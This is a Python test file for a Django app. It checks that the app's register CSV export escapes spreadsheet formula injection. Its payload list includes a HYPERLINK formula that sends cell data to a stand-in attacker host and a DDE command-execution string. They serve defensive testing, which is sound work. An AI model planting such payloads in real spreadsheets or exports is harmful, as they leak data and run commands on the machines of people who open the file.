"""No text cell of an export can run as a formula in a spreadsheet program (OWASP CSV injection)."""

import csv
import io

import pytest
from django.test import Client

from agencies.seeding import load_reference, load_register
from qfapp.spreadsheets import safe_cell

pytestmark = pytest.mark.usefixtures("clean_cache")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_agency_name_cannot_become_a_formula_in_the_register_csv(db, payload):
    from agencies.models import Appointment

    load_reference()
    load_register()
    appointment = Appointment.objects.filter(is_published=True).select_related("agency").first()
    agency = appointment.agency
    agency.name_en = agency.name_zh_hant = agency.name_zh_hans = payload
    agency.save()
    appointment.enquiry_phone = payload[:40]
    appointment.save()
    rows = _rows(Client().get("/register/appointments.csv"))
    header, body = rows[0], rows[1:]
    row = next(r for r in body if r[header.index("id")] == str(appointment.pk))
    for column in ("agency_en", "agency_zh_hant", "agency_zh_hans", "enquiry_phone"):
        assert row[header.index(column)] == "'" + (payload[:40] if column == "enquiry_phone" else payload)
    for cell in (c for r in body for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_safe_cell_leaves_numbers_and_plain_text():
    assert safe_cell(-3) == -3
    assert safe_cell("Vocational Training Council") == "Vocational Training Council"
    assert safe_cell("=1") == "'=1"
